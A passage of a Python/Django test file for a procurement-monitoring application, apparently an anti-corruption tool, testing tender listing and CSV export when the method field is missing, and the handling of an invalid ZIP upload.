    from cegah.procurement.engine.store import Store

    bare = release(995, OWN)
    del bare["tender"]["procurementMethodDetails"]
    with Store(services.store_path()) as store:
        store.import_ocds(write_releases(tmp_path / "bare.jsonl", [bare]))
    services.score_store()
    client = client_for(world.kpk_analyst)
    listing = client.get("/pbj/kpk-uji/tenders/?q=ocds-test-995").content.decode()
    assert 'data-label="Metode">terbuka</td>' in listing
    csv_text = b"".join(
        client.get("/pbj/kpk-uji/tenders/export.csv?q=ocds-test-995").streaming_content
    ).decode("utf-8-sig")
    assert ",terbuka,2025," in csv_text.splitlines()[1]


def test_a_file_that_is_not_a_zip_is_a_warning_without_a_traceback(
    world: World, client_for, django_capture_on_commit_callbacks, caplog
) -> None:
    import logging

    client = client_for(world.kpk_analyst)
    with (
        caplog.at_level(logging.INFO, logger="cegah.procurement"),
        django_capture_on_commit_callbacks(execute=True),
    ):
        client.post("/pbj/kpk-uji/imports/", {"file": SimpleUploadedFile("a.zip", b"not a zip")})
    records = [r for r in caplog.records if r.name == "cegah.procurement"]
    assert [(r.levelname, r.exc_info) for r in records] == [("WARNING", None)]
    assert "not a valid ZIP" in records[0].getMessage()
    assert ImportJob.objects.get().status == ImportJob.Status.FAILED
